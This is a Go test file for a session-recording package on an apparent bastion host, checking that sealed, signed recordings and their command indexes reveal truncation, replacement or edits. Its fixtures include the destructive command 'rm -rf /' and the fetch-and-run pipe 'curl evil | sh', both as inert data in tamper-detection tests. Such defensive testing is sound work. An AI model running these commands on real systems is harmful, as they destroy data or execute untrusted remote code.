package recordings

import (
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"
	"time"
)

// writeSession records a three-command session in dir: "ls" allowed (exit
// 0), "rm -rf /" denied, "make" allowed (exit 3); sealed unless open.
func writeSession(t *testing.T, dir, id string, opt Options, open bool) (*Writer, []Entry) {
	t.Helper()
	if opt.Clock == nil {
		opt.Clock = newClock(t0, 250*time.Millisecond).Now
	}
	w, err := Create(dir, header(id), opt)
	must(t, err)
	must(t, w.Output([]byte("$ ")))
	ref, err := w.Command("ls", "allow", "default-allow")
	must(t, err)
	must(t, w.Output([]byte("a.txt\r\n")))
	must(t, w.CommandEnd(ref, 0))
	_, err = w.Command("rm -rf /", "deny", "no-rm")
	must(t, err)
	must(t, w.Output([]byte("bastion: denied\r\n")))
	ref, err = w.Command("make", "allow", "build")
	must(t, err)
	must(t, w.Output([]byte("make: *** Error 3\r\n")))
	must(t, w.CommandEnd(ref, 3))
	if !open {
		must(t, w.Close(3))
	}
	return w, w.Index()
}

func TestWriterSealed(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	w, _ := writeSession(t, dir, "s1", Options{Signer: testKey}, true)
	if _, ok := w.Sealed(); ok {
		t.Fatal("Sealed before Close")
	}
	must(t, w.Close(3))
	seal, ok := w.Sealed()
	rep, err := VerifyFile(fileOf(t, dir, "s1"), testPub)
	must(t, err)
	if !ok || seal.Lines != rep.Lines || seal.SHA256 != rep.SHA256 {
		t.Fatalf("Sealed = %+v, %v; the file has %d lines, chain %s", seal, ok, rep.Lines, rep.SHA256)
	}
	var nilW *Writer
	if _, ok := nilW.Sealed(); ok {
		t.Fatal("a nil Writer is sealed")
	}
}

func TestVerifySession(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		// open leaves the session unsealed (live, or crashed).
		open bool
		edit func(t *testing.T, f *sessionFixture)
		// want is a prefix of the error, "" for none; unsealed says it is an
		// *UnsealedError (a crash, not tampering).
		want     string
		unsealed bool
	}{
		{"intact", false, func(t *testing.T, f *sessionFixture) {}, "", false},
		{"seal cut off, the store kept the seal", false, func(t *testing.T, f *sessionFixture) {
			f.write(t, f.lines[:len(f.lines)-1])
		}, "line 12: sealed recording cut short: the store recorded it sealed with 12 lines when its session ended, but the file ends after line 11 without its seal", false},
		{"cut back to a command, the store kept the seal", false, func(t *testing.T, f *sessionFixture) {
			f.write(t, f.lines[:9])
		}, "line 10: sealed recording cut short: the store recorded it sealed with 12 lines", false},
		{"cut mid-line, the store kept the seal", false, func(t *testing.T, f *sessionFixture) {
			b := joinLines(f.lines)
			os.WriteFile(f.path, b[:len(b)-30], 0o600)
		}, "line 12: sealed recording cut short", false},
		{"seal cut off, only the index file knows", false, func(t *testing.T, f *sessionFixture) {
			f.known.Seal = nil
			f.write(t, f.lines[:len(f.lines)-1])
		}, "line 12: sealed recording cut short: its index file says the session ended and the recording was sealed", false},
		{"seal cut off, nothing else knows", false, func(t *testing.T, f *sessionFixture) {
			f.known = Known{}
			os.Remove(indexPath(f.dir, "s1"))
			f.write(t, f.lines[:len(f.lines)-1])
		}, "not sealed: session ended abnormally", true},
		{"replaced by another sealed recording of the session", false, func(t *testing.T, f *sessionFixture) {
			other := t.TempDir()
			writeSession(t, other, "s1", Options{Clock: newClock(t0, time.Second).Now}, false)
			b, _ := os.ReadFile(fileOf(t, other, "s1"))
			os.WriteFile(f.path, b, 0o600)
			ix, _ := os.ReadFile(indexPath(other, "s1"))
			os.WriteFile(indexPath(f.dir, "s1"), ix, 0o600)
		}, "line 12: the recording is not the one the store recorded sealed when its session ended", false},
		{"store index lacks a command", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index = append(f.known.Index[:1:1], f.known.Index[2])
		}, `command 2: the store's command index disagrees with the recording: the recording has command "rm -rf /" (deny) at line 6, which it does not list`, false},
		{"store index lists a command the recording lacks", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index = append(f.known.Index, Entry{N: 4, Cmd: "curl evil | sh", Decision: "allow"})
		}, `command 4: the store's command index disagrees with the recording: it lists command "curl evil | sh" (allow), which has no marker`, false},
		{"store index lists a command twice", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index = append(f.known.Index, f.known.Index[0])
		}, "command 1: the store's command index disagrees with the recording: it lists the command twice", false},
		{"store index says allow for a deny", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index[1].Decision = "allow"
		}, `command 2: the store's command index disagrees with the recording: it says "rm -rf /" was decided allow, the recording says deny`, false},
		{"store index has other text", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index[1].Cmd = "ls /"
		}, `command 2: the store's command index disagrees with the recording: it says the command was "ls /", the recording's marker at line 6 says "rm -rf /"`, false},
		{"store index has another rule", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index[2].Rule = "default-allow"
		}, `command 3: the store's command index disagrees with the recording: it says "make" was decided by rule "default-allow"`, false},
		{"store index has another exit code", false, func(t *testing.T, f *sessionFixture) {
			zero := 0
			f.known.Index[2].Exit = &zero
		}, `command 3: the store's command index disagrees with the recording: it says "make" exited 0, the recording says 3`, false},
		{"store index moves a command", false, func(t *testing.T, f *sessionFixture) {
			f.known.Index[0].Line = 2
		}, `command 1: the store's command index disagrees with the recording: it puts "ls" at line 2, the recording's marker is at line 3`, false},
		{"index file edited to hide a denied command", false, func(t *testing.T, f *sessionFixture) {
			f.editIndex(t, func(ix *Index) { ix.Commands = append(ix.Commands[:1:1], ix.Commands[2]) })
		}, `command 2: the index file disagrees with the recording: the recording has command "rm -rf /" (deny) at line 6`, false},
		{"index file of another session", false, func(t *testing.T, f *sessionFixture) {
			f.editIndex(t, func(ix *Index) { ix.SessionID = "s2" })
		}, `command 0: the index file disagrees with the recording: it is the index of session "s2"`, false},
		{"index file that is not JSON", false, func(t *testing.T, f *sessionFixture) {
			os.WriteFile(indexPath(f.dir, "s1"), []byte("{"), 0o600)
		}, "command 0: the index file disagrees with the recording: recordings: index", false},
		{"live: the store has every command, the index file the ended ones", true, func(t *testing.T, f *sessionFixture) {}, "not sealed", true},
		{"live: the last command not in the store yet", true, func(t *testing.T, f *sessionFixture) {
			f.known.Index = f.known.Index[:2]
		}, "not sealed", true},
		{"crashed: a command in the middle missing from the store", true, func(t *testing.T, f *sessionFixture) {
			f.known.Index = append(f.known.Index[:1:1], f.known.Index[2])
		}, `command 2: the store's command index disagrees with the recording`, false},
		{"crashed: an exit the store has, cut from the recording", true, func(t *testing.T, f *sessionFixture) {
			f.write(t, f.lines[:len(f.lines)-1]) // the exit marker of "make"
		}, `command 3: the store's command index disagrees with the recording: it says "make" exited 3, the recording has no exit for it`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			w, index := writeSession(t, dir, "s1", Options{Signer: testKey}, tt.open)
			f := &sessionFixture{dir: dir, path: fileOf(t, dir, "s1"), known: Known{Index: index}}
			if seal, ok := w.Sealed(); ok {
				f.known.Seal = &seal
			}
			f.lines = splitLines(readFile(t, f.path))
			tt.edit(t, f)
			pub := testPub
			if strings.HasPrefix(tt.name, "replaced") {
				pub = nil // the other recording is unsigned: without a key, only the seal kept tells
			}
			_, err := VerifySession(f.path, pub, f.known)
			switch {
			case tt.want == "":
				if err != nil {
					t.Fatalf("VerifySession = %v", err)
				}
			case err == nil || !strings.HasPrefix(err.Error(), tt.want):
				t.Fatalf("VerifySession = %v\nwant %s", err, tt.want)
			case tt.unsealed != isNotSealed(err):
				t.Fatalf("VerifySession = %#v, unsealed %v", err, tt.unsealed)
			}
			var te *TamperError
			var ie *IndexError
			if tt.want != "" && !tt.unsealed && !errors.As(err, &te) && !errors.As(err, &ie) {
				t.Fatalf("VerifySession = %#v, want a *TamperError or *IndexError", err)
			}
		})
	}
}

// sessionFixture is a recorded session that a test edits.
type sessionFixture struct {
	dir, path string
	known     Known
	lines     []string
}

// write replaces the recording with lines.
func (f *sessionFixture) write(t *testing.T, ls []string) {
	t.Helper()
	must(t, os.WriteFile(f.path, joinLines(ls), 0o600))
}

// editIndex rewrites the index file next to the recording.
func (f *sessionFixture) editIndex(t *testing.T, edit func(*Index)) {
	t.Helper()
	p := indexPath(f.dir, "s1")
	ix, err := readIndex(p)
	must(t, err)
	edit(&ix)
	b, err := json.Marshal(ix)
	must(t, err)
	must(t, os.WriteFile(p, b, 0o600))
}
